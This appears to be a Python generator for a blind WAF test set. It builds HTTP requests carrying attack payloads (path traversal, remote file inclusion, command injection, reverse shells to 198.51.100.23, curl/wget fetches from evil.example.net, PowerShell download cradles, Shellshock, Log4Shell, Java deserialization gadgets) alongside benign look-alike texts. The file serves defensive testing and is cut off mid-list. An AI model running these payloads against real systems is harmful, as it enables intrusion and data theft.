"""Blind set "fortieth": a rule author's positive tests, written from rule titles alone, sent both to our
routes and the way a WAF's regression suite sends them.

The angle: for each detection title below (file access, remote file inclusion, Unix and Windows command
injection, PowerShell, shell expressions and history/alias tricks, SQLite dot-commands, wildcard bypasses,
Shellshock, restricted uploads, Java classes, process spawn, serialization magic bytes in raw and base64
form, Log4Shell and class loading) the canonical attack the title names, then the variants a good rule with
that title must still catch: other keywords of the family, other quoting, casing, whitespace and comment
substitutes, and encodings a server decodes. Each payload goes into three places, rotating between our
routes (query argument, form body, JSON body, cookie, User-Agent, Referer, another header, a query
parameter name, an XML body, a multipart field or upload filename, the URL path) and a regression suite's
requests to paths that are not our routes (`/`, `/index.php`, `/get`, `/post`, `/search`,
`/api/v1/items`, `/cgi-bin/test.cgi`) with arbitrary parameter names, as query strings, urlencoded forms,
JSON and XML bodies, User-Agent, Referer and cookies. Families: lfi, rfi, rce, java.

The benign half: developers pasting the same words into Slack (each text also saved as a profile bio),
documentation links, prose, names, addresses and searches that share the titles' keywords.

Authorship and independence: every payload and text was written for this set from general knowledge and
the detection titles alone, without reading the repository's WAF rules, any ruleset's rule text or its
regression tests, other generators' payload lists or any public payload list. The set is measured once on
the unchanged code and is not changed after seeing what the WAF blocks. Deterministic: no clock, no
unseeded randomness.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _get, _json, _query
from .family_gen_blind_php import _place, chat_and_bio, links_and_prose, prose_request
from .records import print_records

NAME = "fortieth"

# (category, sub, payloads)
TITLES: list[tuple[str, str, list[str]]] = [
    ("lfi", "path-traversal", [
        "../../../../etc/shadow",
        "..\\..\\..\\windows\\win.ini",
        "....//....//....//etc/hosts",
        "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fgroup",
        "..%2f..%2f..%2fvar%2flog%2fauth.log",
        "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        "..%c0%af..%c0%afetc/passwd",
        "/static/../../../../root/.bashrc",
        "..;/..;/..;/WEB-INF/web.xml",
        "..%5c..%5c..%5cboot.ini",
        "images/../../../../../proc/version",
        ".%2e/.%2e/.%2e/etc/issue",
    ]),
    ("lfi", "os-file-access", [
        "/etc/passwd",
        "/etc/shadow",
        "/proc/self/environ",
        "/proc/self/cmdline",
        "c:\\windows\\system32\\drivers\\etc\\hosts",
        "/etc/security/opasswd",
        "/root/.ssh/id_rsa",
        "/var/log/apache2/access.log",
        "C:/boot.ini",
        "/etc/sudoers",
        "/home/ubuntu/.bash_history",
    ]),
    ("lfi", "restricted-file", [
        "/.htaccess",
        ".htpasswd",
        "/web.config",
        "/.git/config",
        "/.env",
        "WEB-INF/web.xml",
        "/wp-config.php.bak",
        "/.svn/entries",
        "config/database.yml",
        "/.aws/credentials",
        "/.DS_Store",
    ]),
    ("rfi", "rfi-ip-address", [
        "http://198.51.100.23/shell.txt",
        "https://203.0.113.77/inc/evil.php",
        "ftp://192.0.2.14/pub/backdoor.txt",
        "http://10.13.37.1:8080/x.php",
        "HTTP://198.51.100.23/r57.txt?",
        "http://3325256814/payload.txt",
        "http://0xc6336417/c99.txt",
        "//198.51.100.23/share/x.php",
        "http://[2001:db8::1]/shell.txt",
    ]),
    ("rfi", "rfi-common-param", [
        "include=http://evil.example.net/shell.txt",
        "page=http://attacker.example.org/inc.txt",
        "file=https://pastebin.example.com/raw/abc123",
        "path=ftp://files.example.net/x.php",
        "template=http://evil.example.net/tpl.txt",
        "mosConfig_absolute_path=http://evil.example.net/x.txt?",
        "inc=http://evil.example.net/c99.txt",
        "dir=https://evil.example.net/r57",
        "module=http://evil.example.net/mod.txt",
        "document_root=http://evil.example.net/",
    ]),
    ("rfi", "rfi-trailing-question", [
        "http://evil.example.net/shell.txt?",
        "https://attacker.example.org/payload.php?",
        "ftp://evil.example.net/x.txt?",
        "http://evil.example.net/c99.txt??",
        "http://evil.example.net/r57.txt?&cmd=id",
        "HTTPS://EVIL.EXAMPLE.NET/INC.TXT?",
        "http://evil.example.net/x.txt%3F",
        "http://evil.example.net/bot.txt?x=",
        "http://evil.example.net/a.gif?/",
    ]),
    ("rfi", "rfi-off-domain", [
        "http://evil.example.net/shell.php",
        "https://attacker.example.org/include/header.inc",
        "ftp://anonymous@files.example.net/pub/x.php",
        "http://raw.attacker.example.org/payloads/c99.txt",
        "https://evil.example.net/wso.php#",
        "\\\\evil.example.net\\share\\shell.php",
        "http://evil.example.net%2fshell.txt",
        "hTtP://evil.example.net/x.txt",
        "https://evil.example.net:8443/loader.inc",
    ]),
    ("rce", "unix-cmd-injection", [
        ";cat /etc/passwd",
        "| id",
        "&& uname -a",
        "`whoami`",
        "$(id)",
        "; wget http://evil.example.net/x.sh -O /tmp/x.sh",
        "|| curl -s http://evil.example.net/a | sh",
        "1;ls -la /",
        "x\nid\n",
        "; nc -e /bin/sh 198.51.100.23 4444",
        "& ping -c 3 198.51.100.23 &",
        ";sleep 10;",
    ]),
    ("rce", "windows-cmd-injection", [
        "& dir c:\\",
        "| type c:\\windows\\win.ini",
        "&& net user hacker P4ss /add",
        "; ipconfig /all",
        "| whoami /priv",
        "& cmd.exe /c ver",
        "&& systeminfo",
        "| tasklist /v",
        "& net localgroup administrators",
        "|certutil -urlcache -split -f http://evil.example.net/x.exe x.exe",
    ]),
    ("rce", "powershell", [
        "powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://evil.example.net/a')",
        "powershell.exe -EncodedCommand SQBFAFgA",
        "Invoke-Expression (iwr http://evil.example.net/p.ps1)",
        "pwsh -c Get-ChildItem C:\\",
        "Start-Process calc.exe",
        "powershell -ExecutionPolicy Bypass -File x.ps1",
        "Invoke-WebRequest -Uri http://evil.example.net/x -OutFile x.exe",
        "& powershell Get-Process",
        "PoWeRsHeLl -enc JABjAD0A",
        "[System.Diagnostics.Process]::Start('cmd.exe')",
    ]),
    ("rce", "unix-shell-expression", [
        "$(cat /etc/passwd)",
        "${IFS}",
        "$(whoami)",
        "`cat /etc/hostname`",
        "<(id)",
        ">(sh)",
        "$((1+1))",
        "${PATH:0:1}etc${PATH:0:1}passwd",
        "$(echo aWQ= | base64 -d)",
        "a$(sleep 5)b",
    ]),
    ("rce", "windows-for-if", [
        "for /f \"tokens=*\" %a in ('whoami') do echo %a",
        "for /l %i in (1,1,10) do ping 198.51.100.23",
        "if exist c:\\windows\\win.ini type c:\\windows\\win.ini",
        "& for /r c:\\ %f in (*.config) do type %f",
        "if defined PATH (whoami)",
        "FOR /F %x IN ('dir /b') DO del %x",
        "| if not exist x.exe certutil -urlcache -f http://evil.example.net/x.exe x.exe",
        "for /d %d in (c:\\*) do dir %d",
        "if 1==1 net user",
    ]),
    ("rce", "direct-unix-exec", [
        "/bin/sh -c id",
        "/bin/bash -i",
        "/usr/bin/id",
        "/bin/cat /etc/passwd",
        "/usr/bin/wget http://evil.example.net/x",
        "/usr/bin/python3 -c 'import os;os.system(\"id\")'",
        "/bin/nc -lvp 4444",
        "/usr/bin/perl -e 'system(\"id\")'",
        "/bin//sh",
        "/usr/local/bin/../../bin/sh -c whoami",
        "/sbin/ifconfig",
    ]),
    ("rce", "unix-shell-code", [
        "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1",
        "sh -i 2>&1 | nc 198.51.100.23 4444",
        "exec 5<>/dev/tcp/198.51.100.23/80;cat <&5 | sh >&5",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.23 9001 >/tmp/f",
        "echo 'x' > /var/www/html/x.php",
        "chmod +x /tmp/x; /tmp/x",
        "python -c 'import pty;pty.spawn(\"/bin/bash\")'",
        "0<&196;exec 196<>/dev/tcp/198.51.100.23/4444; sh <&196 >&196 2>&196",
        "nohup sh -c 'curl evil.example.net|sh' &",
        "perl -MIO -e '$c=new IO::Socket::INET(\"198.51.100.23:4444\")'",
    ]),
    ("rce", "shellshock", [
        "() { :; }; /bin/bash -c 'id'",
        "() { :;}; echo; /bin/cat /etc/passwd",
        "() { _; } >_[$($())] { id; }",
        "() {:;}; /usr/bin/wget http://evil.example.net/x",
        "() { ignored; }; /bin/sh -c whoami",
        "(){ :; };ping -c 1 198.51.100.23",
        "() { :; }; echo vulnerable",
        "() { x; }; curl http://evil.example.net/$(id)",
    ]),
    ("rce", "restricted-upload", [
        "shell.php",
        "shell.php5",
        "x.phtml",
        "image.jpg.php",
        "backdoor.jsp",
        "cmd.aspx",
        "x.asp;.jpg",
        ".htaccess",
        "upload.php%00.png",
        "evil.PHP",
        "web.config",
        "x.shtml",
    ]),
    ("rce", "rce-bypass", [
        "c''at /et''c/pa''sswd",
        "c\\at /e\\tc/pa\\sswd",
        "w\"h\"o\"a\"m\"i",
        "/???/??t /???/p??s??",
        "cat$IFS/etc/passwd",
        "cat${IFS}/etc/passwd",
        "{cat,/etc/passwd}",
        "/b[i]n/c[a]t /e[t]c/p[a]sswd",
        "$u/bin$u/cat /etc/passwd",
        "ca$@t /etc/passwd",
        "i\\\nd",
        "who$()ami",
    ]),
    ("java", "java-class-rce", [
        "java.lang.Runtime.getRuntime().exec(\"id\")",
        "java.lang.ProcessBuilder",
        "new java.lang.ProcessBuilder({'/bin/sh','-c','id'}).start()",
        "java.lang.System.getProperty(\"user.dir\")",
        "javax.script.ScriptEngineManager",
        "java.io.FileInputStream(\"/etc/passwd\")",
        "java.lang.reflect.Method",
        "java.net.URLClassLoader",
        "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
        "java.lang.Thread.sleep(5000)",
    ]),
    ("java", "java-process-spawn", [
        ("<map><entry><jdk.nashorn.internal.objects.NativeString>"
         "<value class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\">"
         ""
         "<dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource\">"
          "<is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto.NullCipher\">"
          "<serviceIterator class=\"javax.imageio.spi.FilterIterator\">"
         "<next class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></next></serviceIterator>"
         "</cipher></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString></entry>"
         "</map>"),
        "<java.lang.ProcessBuilder><command><string>calc</string></command></java.lang.ProcessBuilder>",
        ("<next class=\"java.lang.ProcessBuilder\"><command><string>/bin/sh</string><string>-c</string><string>"
         "id</string></command><redirectErrorStream>false</redirectErrorStream></next>"),
        ("<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface>"
         "<handler class=\"java.beans.EventHandler\">"
         "<target class=\"java.lang.ProcessBuilder\"><command><string>touch</string><string>/tmp/x</string>"
         "</command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
        "new ProcessBuilder(\"bash\",\"-c\",\"id\").start()",
        "Runtime.getRuntime().exec(\"cmd.exe /c dir\")",
        ("<object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>id</string>"
         "</void></object>"),
        ("<void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\">"
         "<string>id</string></void></array><void method=\"start\"/></void>"),
    ]),
    ("java", "java-serialization", [
        "org.apache.commons.collections.functors.InvokerTransformer",
        "org.apache.commons.collections4.functors.ChainedTransformer",
        "org.apache.commons.collections.functors.ConstantTransformer",
        "sun.reflect.annotation.AnnotationInvocationHandler",
        "org.apache.commons.collections.map.LazyMap",
        "org.apache.commons.collections.keyvalue.TiedMapEntry",
        "org.codehaus.groovy.runtime.ConvertedClosure",
        "com.sun.rowset.JdbcRowSetImpl",
        "org.springframework.beans.factory.ObjectFactory",
        "java.util.PriorityQueue org.apache.commons.beanutils.BeanComparator",
    ]),
    ("java", "suspicious-java-class", [
        "java.lang.Runtime",
        "java.lang.Class.forName(\"java.lang.Runtime\")",
        "java.lang.ClassLoader",
        "java.lang.Process",
        "java.lang.System.exit(0)",
        "java.beans.XMLDecoder",
        "java.rmi.registry.LocateRegistry",
        "javax.naming.InitialContext",
        "java.lang.invoke.MethodHandles",
        "sun.misc.Unsafe",
        "java.util.Scanner(java.lang.Runtime.getRuntime().exec(\"id\").getInputStream())",
    ]),
    ("java", "java-magic-bytes", [
        "%AC%ED%00%05sr%00%11java.util.HashMap",
        "%AC%ED%00%05sr%002org.apache.commons.collections.map.LazyMap",
        "%AC%ED%00%05t%00%04test",
        "%ac%ed%00%05ur%00%13%5BLjava.lang.Object%3B",
        "%AC%ED%00%05sr%00%17java.util.PriorityQueue",
        "%AC%ED%00%05w%04%00%00%00%01",
        "xx%AC%ED%00%05sr%00%0Ajava.io.File",
        "%AC%ED%00%05sq%00%7E%00%01",
    ]),
    ("java", "java-magic-bytes-b64", [
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
        "rO0ABXQABHRlc3Q=",
        "rO0ABXNyADJvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMubWFwLkxhenlNYXA=",
        "rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7",
        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==",
        "H4sIAAAAAAAAAFvzloG1uIhBNzk/Vy+5KDU3NTGvWC8rsSwRAE",
        "KztAAXNyABFqYXZh",
        "rO0ABXcEAAAAAQ==",
        "session=rO0ABXNyAA5qYXZhLmxhbmcuTG9uZw",
    ]),
    ("java", "java-method", [
        ".getRuntime().exec(",
        "getClass().forName(\"java.lang.Runtime\")",
        ".getDeclaredMethod(\"exec\",String.class).invoke(null,\"id\")",
        "Class.forName(\"javax.script.ScriptEngineManager\").newInstance()",
        ".getClassLoader().loadClass(\"Exploit\")",
        "defineClass(\"X\", bytes, 0, bytes.length)",
        ".getMethod(\"getRuntime\").invoke(null)",
        "readObject()",
        "System.setSecurityManager(null)",
        "''.class.forName('java.lang.Runtime').getMethod('exec',''.class)",
    ]),
    ("lfi", "os-file-headers", [
        "/etc/passwd",
        "../../../etc/shadow",
        "/proc/self/environ",
        "file:///etc/passwd",
        "c:\\windows\\win.ini",
        "/var/log/nginx/error.log",
        "/root/.ssh/authorized_keys",
        "/etc/hosts",
    ]),
    ("rce", "unix-pipe", [
        "| cat /etc/passwd",
        "|id",
        "| uname -a |",
        "x|ls -la",
        "| nc 198.51.100.23 4444",
        "test | whoami",
        "|| ps aux",
        "| head -n 5 /etc/shadow",
        "|base64 -d|sh",
        "| /bin/bash",
    ]),
    ("rce", "unix-no-evasion", [
        ";id",
        ";whoami",
        "; uname -a",
        "; ls /",
        "&& cat /etc/group",
        "; ps -ef",
        "; netstat -an",
        "& ifconfig",
        "; env",
        "; curl http://evil.example.net",
        "; pwd",
    ]),
    ("rce", "unix-alias", [
        "\\ls -la",
        "\\cat /etc/passwd",
        "\\id",
        "\\whoami",
        "; \\uname -a",
        "command ls /",
        "builtin echo x; \\rm -rf /tmp/x",
        "alias x='id';x",
        "| \\nc 198.51.100.23 4444",
    ]),
    ("rce", "unix-history", [
        "!!",
        "!-1",
        "; !ls",
        "!#",
        "!$",
        "sudo !!",
        "!cat:p",
        "^ls^id",
        "; fc -s ls=id",
    ]),
    ("rce", "sqlite-system", [
        ".system id",
        ".shell cat /etc/passwd",
        ".system ls -la /",
        ".shell whoami",
        "';\n.system id\n",
        ".SYSTEM uname -a",
        ".shell curl http://evil.example.net/x|sh",
        "x\n.shell id",
        ".system /bin/sh -c id",
    ]),
    ("rce", "wildcard-bypass", [
        "/bin/ca? /etc/pass??",
        "/???/c?t /???/??ss??",
        "/b??/w?oami",
        "cat /e*/p*d",
        "/u*/b*/wh*i",
        "/???/n? -e /???/b??h 198.51.100.23 4444",
        "/*/*/id",
        "ls /et?/",
        "/bin/c[a]t /etc/sh*",
        "/usr/bin/???get http://evil.example.net/x",
    ]),
    ("rce", "unix-shell-code-headers", [
        "() { :; }; /bin/bash -c 'cat /etc/passwd'",
        "bash -i >& /dev/tcp/198.51.100.23/443 0>&1",
        "$(curl http://evil.example.net/x.sh|sh)",
        "`id`",
        "; /bin/sh -c whoami",
        "sh -c 'wget -qO- evil.example.net|sh'",
        "nc -e /bin/bash 198.51.100.23 80",
        "$(cat /etc/shadow)",
    ]),
    ("java", "log4shell", [
        "${jndi:ldap://evil.example.net/a}",
        "${jndi:rmi://198.51.100.23:1099/obj}",
        "${jndi:dns://evil.example.net}",
        "${${lower:j}ndi:${lower:l}dap://evil.example.net/x}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example.net/x}",
        "${jndi:ldap://${env:HOSTNAME}.evil.example.net/a}",
        "${JNDI:LDAP://evil.example.net/a}",
        "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example.net%2Fa%7D",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://evil.example.net/a}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example.net/a}",
        "${jndi:nis://evil.example.net/a}",
    ]),
    ("java", "class-loading", [
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c}i",
        "class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT",
        "class.classLoader.resources.dirContext.docBase=/",
        "ClassLoader.getSystemClassLoader().loadClass(\"Evil\")",
        "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://evil.example.net/x.jar\")})",
        "Class.forName(\"Evil\", true, new URLClassLoader(urls))",
        "javax.management.loading.MLet",
        "com.sun.org.apache.bcel.internal.util.ClassLoader",
        "$$BCEL$$$l$8b$I$A$A$A$A$A$A",
        "class.module.classLoader.URLs[0]=http://evil.example.net/",
    ]),
]

# Where a payload goes: ours (our routes) and regression-suite requests, alternating.
OUR_PLACES = ["query", "form", "json", "cookie", "ua", "referer", "header", "argname", "xml", "multipart",
              "path"]
REG_PLACES = ["reg-query", "reg-form", "reg-json", "reg-xml", "reg-ua", "reg-referer", "reg-cookie"]
REG_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
REG_PARAMS = ["id", "var", "test", "file", "page", "q", "x", "name", "data", "cmd", "url", "foo"]
HEADER_SUBS = {"os-file-headers": ["ua", "referer", "header", "reg-ua", "reg-referer", "header"],
               "unix-shell-code-headers": ["ua", "header", "reg-ua", "referer", "reg-referer", "header"]}
UPLOAD_PLACES = ["upload", "reg-upload", "multipart"]
RAW_SUBS = {"java-magic-bytes"}   # payloads already percent-encoded (binary bytes)


def _headers(extra: dict[str, str] | None = None, ua: str = UA) -> dict[str, str]:
    return {"User-Agent": ua, "Accept": "*/*", **(extra or {})}


def _clean(value: str) -> str:
    return value.replace("\r", " ").replace("\n", " ").replace("\0", " ")


def _xml(uri: str, value: str, raw: bool) -> dict[str, Any]:
    text = urllib.parse.unquote(value) if raw else value
    body = f'<?xml version="1.0" encoding="UTF-8"?><user><name>{escape(text)}</name><page>1</page></user>'
    return {"method": "POST", "uri": uri, "body": body,
            "headers": _headers({"Content-Type": "text/xml; charset=utf-8"})}


def _multipart(uri: str, field: str, value: str, filename: str | None = None) -> dict[str, Any]:
    b = "----fortiethBoundary7MA4YWxkTrZu0gW"
    parts = [f'--{b}\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\nt0k3n\r\n']
    if filename is None:
        parts.append(f'--{b}\r\nContent-Disposition: form-data; name="{field}"\r\n\r\n{value}\r\n')
    else:
        parts.append(f'--{b}\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'
                     f'Content-Type: application/octet-stream\r\n\r\nhello\r\n')
    parts.append(f"--{b}--\r\n")
    return {"method": "POST", "uri": uri, "body": "".join(parts),
            "headers": _headers({"Content-Type": f"multipart/form-data; boundary={b}"})}


def _raw_query(path: str, name: str, encoded: str) -> dict[str, Any]:
    return _get(f"{path}?{name}={encoded}")


def _raw_form(uri: str, name: str, encoded: str) -> dict[str, Any]:
    return {"method": "POST", "uri": uri, "body": f"csrf_token=t0k3n&{name}={encoded}",
            "headers": _headers({"Content-Type": "application/x-www-form-urlencoded"})}


def _record(place: str, i: int, value: str, raw: bool, pname: str = "") -> dict[str, Any]:
    """One request with `value` in `place`; i rotates parameter names and regression paths (`pname`: the
    parameter name the payload names, for the vulnerable-parameter titles)."""
    name = pname or REG_PARAMS[i % len(REG_PARAMS)]
    rpath = REG_PATHS[i % len(REG_PATHS)]
    enc = value if raw else urllib.parse.quote(value, safe="")
    plain = urllib.parse.unquote(value) if raw else value
    hval = _clean(plain) if not raw else value
    if place in ("query", "form", "json") and not raw:
        return _place(place, name, value)
    if place == "query":
        return _raw_query("/api/users", name, enc)
    if place == "form":
        return _raw_form("/admin/users/search", name, enc)
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: plain})
    if place == "cookie":
        return {**_get("/api/users?page=1"), "headers": _headers({"Cookie": f"session=abc123; {name}={enc}"})}
    if place == "ua":
        return {**_get("/api/users?page=1"), "headers": _headers(ua=hval)}
    if place == "referer":
        return {**_get("/api/users?page=1"), "headers": _headers({"Referer": hval})}
    if place == "header":
        return {**_get("/api/users?page=1"), "headers": _headers({"X-Forwarded-Prefix": hval})}
    if place == "argname":
        return _get(f"/api/users?page=1&{enc}=1")
    if place == "xml":
        return _xml("/api/users", value, raw)
    if place == "multipart":
        return _multipart("/admin/users/search", name, plain)
    if place == "upload":
        return _multipart("/admin/users/search", "file", "", filename=_clean(plain).replace('"', "%22"))
    if place == "path":
        return _get("/api/users/" + urllib.parse.quote(plain, safe="/") + "?page=1")
    if place == "reg-query":
        return _raw_query(rpath, name, enc)
    if place == "reg-form":
        return {"method": "POST", "uri": rpath, "body": f"{name}={enc}",
                "headers": _headers({"Content-Type": "application/x-www-form-urlencoded"})}
    if place == "reg-json":
        return {"method": "POST", "uri": rpath, "body": json.dumps({name: plain}),
                "headers": _headers({"Content-Type": "application/json"})}
    if place == "reg-xml":
        return _xml(rpath, value, raw)
    if place == "reg-ua":
        return {**_get(rpath), "headers": _headers(ua=hval)}
    if place == "reg-referer":
        return {**_get(rpath), "headers": _headers({"Referer": hval})}
    if place == "reg-cookie":
        return {**_get(rpath), "headers": _headers({"Cookie": f"{name}={enc}"})}
    if place == "reg-upload":
        return _multipart(rpath, "file", "", filename=_clean(plain).replace('"', "%22"))
    raise ValueError(place)


def _places(sub: str, i: int) -> list[str]:
    if sub in HEADER_SUBS:
        lst = HEADER_SUBS[sub]
        return [lst[(i + k) % len(lst)] for k in range(3)][:3] if i % 2 == 0 else \
            [lst[(i + k + 1) % len(lst)] for k in range(2)]
    if sub == "restricted-upload":
        return UPLOAD_PLACES if i % 2 == 0 else ["upload", "reg-upload"]
    ours = OUR_PLACES[i % len(OUR_PLACES)]
    reg = REG_PLACES[i % len(REG_PLACES)]
    third = OUR_PLACES[(i + 5) % len(OUR_PLACES)] if i % 2 == 0 else REG_PLACES[(i + 3) % len(REG_PLACES)]
    return [ours, reg, third]


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    g = 0
    for category, sub, payloads in TITLES:
        raw = sub in RAW_SUBS
        for p in payloads:
            g += 1
            for place in _places(sub, g):
                if raw and place in ("argname", "path", "ua", "referer", "header", "reg-ua", "reg-referer"):
                    place = "reg-form"
                pname, value = "", p
                if sub == "rfi-common-param":
                    pname, value = p.split("=", 1)
                    if place in ("argname", "ua", "referer", "header", "reg-ua", "reg-referer", "path"):
                        place = "query" if place in ("argname", "path") else "reg-query"
                n += 1
                yield {**_record(place, g + n, value, raw, pname), "id": f"{NAME}-{category}-{sub}-{n:04d}",
                       "category": category, "sub": sub, "placement": place, "payload": p}


# Benign: the same words, innocently.
SLACK_TEXTS = [
    "heads up: the path traversal fix for the download endpoint is merged, thanks Priya",
    "can someone check why /etc/passwd shows up in the audit log? it's from the pentest last week",
    "reminder: never commit .env files, we rotate keys if one leaks",
    "the .htaccess rewrite rules are gone since we moved to nginx",
    "who owns the web.config for the legacy IIS box?",
    "I added a check so uploads ending in .php are rejected, PR #482",
    "our WAF blocked a Log4Shell probe overnight, nothing to do, we're not on Java",
    "remember Shellshock? the old CGI box finally got decommissioned",
    "use `ls -la` to see hidden files, then `cat` the config",
    "run `grep -r TODO src/ | wc -l` and post the number here",
    "PowerShell tip: Get-ChildItem -Recurse | Measure-Object",
    "for the deploy use bash, not sh, the script needs arrays",
    "the cron job runs `find /var/log/app -mtime +7 -delete` nightly",
    "Java deserialization talk at the meetup was great, slides are on the wiki",
    "we bumped commons-collections to 3.2.2 because of the old gadget chain",
    "the class loader leak in Tomcat came back after the upgrade",
    "ProcessBuilder is fine for the batch jobs, Runtime.exec is deprecated in our style guide",
    "can you pipe the output to jq? curl ... | jq .items",
    "Windows users: ipconfig /all shows the DNS suffix",
    "the sqlite CLI has .tables and .schema, super handy for debugging",
    "tip: !! repeats the last command in bash, sudo !! is a classic",
    "I aliased ll to ls -l on the jump host",
    "SSRF and RFI were both in the OWASP training today",
    "IP allow-list for the webhook: 203.0.113.0/24",
    "the file include for the footer template is in layout.html",
    "off-domain links in emails need the tracking param removed",
    "don't forget the trailing slash on the redirect URL",
    "the for loop in the migration script skips the first row, fixing",
    "if the build fails, check the Java version first",
    "magic bytes of a PNG are 89 50 4E 47, of a PDF %PDF",
    "base64 of the avatar is huge, let's use a URL instead",
    "the wildcard cert covers *.example.com only",
    "history of the incident is in the postmortem doc",
    "the command palette in VS Code is Ctrl+Shift+P",
    "we need to restrict file access for contractors to the shared drive",
    "remote execution of the test suite on the CI runners is slow today",
    "please review: adds an upload size limit and a type allow-list",
    "the shell script uses set -euo pipefail now",
    "who knows why the system tray icon disappeared on Windows 11?",
    "the nightly backup writes to /var/backups/app",
    "echo $PATH on the runner shows /usr/local/bin first",
    "for those asking: the Java class is OrderService in billing",
    "Log4j 2.17.1 is what we run on the analytics cluster",
    "serialization format is JSON, not Java serialization, so we're fine",
    "the readObject override was removed in the refactor",
    "check the process list with ps aux | grep gunicorn",
    "the Referer header is stripped by the CDN, FYI",
    "the user agent for the crawler is MyBot/1.0",
    "did anyone test the restricted upload folder permissions?",
    "cmd.exe or PowerShell? for the installer we support both",
    "the CSV export includes a 'path' column, it's the folder name",
    "the include directive in nginx conf pulls snippets/ssl.conf",
    "Mon café était fermé, so I'm working from home",
    "Ja, der Befehl ist `npm run build`, dann neu laden",
    "the tokens=* trick in batch files is cursed but works",
    "the regression tests for the upload page are flaky again",
    "Friday demo: remote file sync with rsync over ssh",
    "the server's IP changed to 198.51.100.40 after the migration",
    "system prompt for the bot is in config/bot.yaml",
    "whoami returns the service account on the build agent",
    "the pipeline history tab shows every run since March",
    "I'll be remote on Thursday, ping me on Slack",
    "the Windows installer asks for admin, that's expected",
    "our IP was rate limited by the partner API for an hour",
    "the shell company story in the news is unrelated to our vendor",
    "Java 21 virtual threads cut the p99 latency in half",
    "the class diagram is in docs/architecture.png",
    "please don't upload .exe files to the shared drive",
    "the path to the certificate changed to /etc/ssl/app/cert.pem",
    "the wildcard DNS entry points to the staging load balancer",
]
PUBLIC_URLS = [
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://owasp.org/www-project-top-ten/",
    "https://cwe.mitre.org/data/definitions/22.html",
    "https://cwe.mitre.org/data/definitions/78.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2021-44228",
    "https://nvd.nist.gov/vuln/detail/CVE-2014-6271",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://docs.oracle.com/javase/8/docs/api/java/lang/ProcessBuilder.html",
    "https://docs.oracle.com/javase/tutorial/jndi/overview/index.html",
    "https://learn.microsoft.com/en-us/powershell/scripting/overview",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for",
    "https://www.gnu.org/software/bash/manual/bash.html#History-Interaction",
    "https://sqlite.org/cli.html",
    "https://nginx.org/en/docs/http/ngx_http_core_module.html#client_max_body_size",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/Referer",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/User-Agent",
    "https://en.wikipedia.org/wiki/Shellshock_(software_bug)",
    "https://en.wikipedia.org/wiki/Directory_traversal_attack",
    "https://en.wikipedia.org/wiki/Wildcard_character",
    "https://github.com/apache/commons-collections/releases",
    "https://spring.io/security/cve-2022-22965",
    "https://example.com/docs/upload?type=pdf&max=10mb",
    "https://files.example.org/reports/2024/q3/summary.pdf",
    "https://www.example.net/careers/remote-engineer",
    "https://status.example.com/incidents/2024-06-11",
    "https://tldp.org/LDP/abs/html/",
    "https://man7.org/linux/man-pages/man5/passwd.5.html",
    "https://docs.python.org/3/library/subprocess.html",
]
PROSE = [
    "Path traversal explained: why ../ in a file name is dangerous",
    "How to restrict file access on a shared Windows folder",
    "remote file inclusion vs local file inclusion",
    "the command line basics workshop, room 3B",
    "Windows PowerShell for administrators, 2nd edition",
    "Unix shell programming by Kochan and Wood",
    "Shellshock retrospective: ten years later",
    "Java class loading in depth",
    "Log4j migration checklist",
    "serialization and magic numbers in file formats",
    "file upload policy for the HR portal",
    "history of the Unix shell, from Thompson to bash",
    "alias names for the sales team distribution list",
    "SQLite system tables and the .schema command",
    "wildcard search tips: use * for any characters",
    "off-domain link policy for the newsletter",
    "IP address management spreadsheet",
    "trailing question mark in survey titles?",
    "pipe fitting supplier in Rotterdam",
    "Directory of Shell gas stations near Exeter",
    "the Process team meeting notes",
    "Runtime of the movie is 2h 14m",
    "Java coffee beans, 1kg",
    "Class of 2019 reunion",
    "Cat and dog adoption day",
    "Windows and doors installation quote",
    "Command Sergeant Major retirement ceremony",
    "Remote execution of the will, notary appointment",
    "Restricted area: employees only",
    "Magic: The Gathering tournament Saturday",
    "passwd change policy every 90 days",
    "Etc. and other abbreviations in style guides",
    "Shadow IT survey results",
    "Bash party for the release, bring snacks",
